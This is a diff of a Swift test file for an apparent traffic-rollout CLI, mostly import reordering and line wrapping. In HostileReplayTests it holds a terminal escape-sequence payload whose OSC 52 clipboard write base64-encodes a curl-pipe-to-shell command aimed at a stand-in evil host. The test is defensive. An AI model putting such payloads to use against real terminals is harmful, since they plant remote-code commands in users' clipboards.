@@ -1,8 +1,9 @@
 import Foundation
-import Testing
-@testable import RampartCore
 import RampartEngine
 import RampartTestSupport
+import Testing
+
+@testable import RampartCore
 
 /// Every way a user or the system ends a headless run puts traffic back on the baseline, records
 /// the decision and exits 3: SIGTERM, SIGHUP (a closed terminal, a dropped ssh session) and two
@@ -18,7 +19,9 @@ struct SignalTests {
     /// The weight the router last applied: the flag document, or what the command wrote.
     static func appliedWeight(_ dir: String, router: String) -> Double? {
         if router == "file" { return flagWeight(dir + "/flags.json") }
-        return (try? String(contentsOfFile: dir + "/weight.txt", encoding: .utf8)).flatMap { Double($0.trimmingCharacters(in: .whitespacesAndNewlines)) }
+        return (try? String(contentsOfFile: dir + "/weight.txt", encoding: .utf8)).flatMap {
+            Double($0.trimmingCharacters(in: .whitespacesAndNewlines))
+        }
     }
 
     static func routerYAML(_ router: String) -> String {
@@ -108,7 +111,8 @@ struct HostileReplayTests {
         let sample = try String(contentsOfFile: CLI.repository + "/sample-runs/operator-rollback.jsonl", encoding: .utf8)
         // Window title, OSC 52 clipboard write, clear screen, a bell, right-to-left override, C1 CSI.
         let payload = #"\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u0007\u001b[2J\u001b[H\u0007\u202eevil\u009b31m"#
-        let hostile = sample
+        let hostile =
+            sample
             .replacingOccurrences(of: "support tickets about wrong refund amounts are spiking", with: "spiking " + payload)
             .replacingOccurrences(of: #""grace""#, with: #""grace\#(payload)""#)
         try hostile.write(toFile: dir + "/hostile.jsonl", atomically: true, encoding: .utf8)
@@ -137,7 +141,10 @@ struct HostileReplayTests {
         }
         lines[lines.count - 1] = lines[lines.count - 1].replacingOccurrences(of: #""t":"#, with: #""t":1e300,"y":"#)
         try lines.joined(separator: "\n").appending("\n").write(toFile: dir + "/absurd.jsonl", atomically: true, encoding: .utf8)
-        for args in [["replay", "absurd.jsonl", "--headless"], ["runs", "show", "absurd.jsonl"], ["replay", "absurd.jsonl", "--judge", CLI.repository + "/examples/demo.yaml"]] {
+        for args in [
+            ["replay", "absurd.jsonl", "--headless"], ["runs", "show", "absurd.jsonl"],
+            ["replay", "absurd.jsonl", "--judge", CLI.repository + "/examples/demo.yaml"],
+        ] {
             let r = try await CLI.run(args, in: dir)
             #expect(r.status < 128, "\(args): exit \(r.status) \(r.stderr.suffix(300))")
         }
@@ -198,7 +205,8 @@ struct CrashRecoveryTests {
 
         let again = try await CLI.run(["recover"], in: dir)
         #expect(again.status == 0 && again.stdout.contains("nothing to recover"))
-        let next = try await CLI.run(["run", "spec.yaml", "--headless", "--speed", "max", "--no-cache", "--record", "third.jsonl", "--command-at", "10s:abort"], in: dir)
+        let next = try await CLI.run(
+            ["run", "spec.yaml", "--headless", "--speed", "max", "--no-cache", "--record", "third.jsonl", "--command-at", "10s:abort"], in: dir)
         #expect(next.status == 3, "the next run starts once the traffic is accounted for: \(next.stderr)")
     }
 }
